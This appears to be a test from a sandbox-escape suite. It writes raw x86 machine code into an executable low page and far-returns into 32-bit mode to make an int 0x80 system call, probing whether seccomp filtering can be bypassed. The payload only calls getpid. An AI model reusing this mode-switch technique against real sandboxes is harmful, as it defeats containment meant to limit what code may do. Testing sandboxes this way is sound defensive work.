"""Go over into 32-bit code by a far return, and call from there.

Stopped by: seccomp
Outside: works
"""

from __future__ import annotations

import ctypes
import os
import struct

from tests.escape import linux
from tests.escape.stage import Stage


def attempt(_stage: Stage) -> object:
    low = linux.low_memory()
    linux.system_call("mprotect", low, 4096, 7)
    # The stack moves into the low page, for 32-bit code can reach no other.
    stack = low + 4000
    enter = b"\x53\x48\x89\xe3" + b"\x48\x89\x1c\x25" + struct.pack("<I", low + 4008)
    enter += b"\xbc" + struct.pack("<I", stack) + b"\x6a\x23\x68"
    body_at = low + len(enter) + 4 + 2
    code = enter + struct.pack("<I", body_at) + b"\x48\xcb"
    inner = b"\xb8\x14\0\0\0\xcd\x80\x6a\x33\x68"
    back = body_at + len(inner) + 4 + 1
    code += inner + struct.pack("<I", back) + b"\xcb"
    code += b"\x48\x8b\x24\x25" + struct.pack("<I", low + 4008) + b"\x5b\x48\x98\xc3"
    ctypes.memmove(low, code, len(code))
    return int(ctypes.CFUNCTYPE(ctypes.c_long)(low)()) == os.getpid()
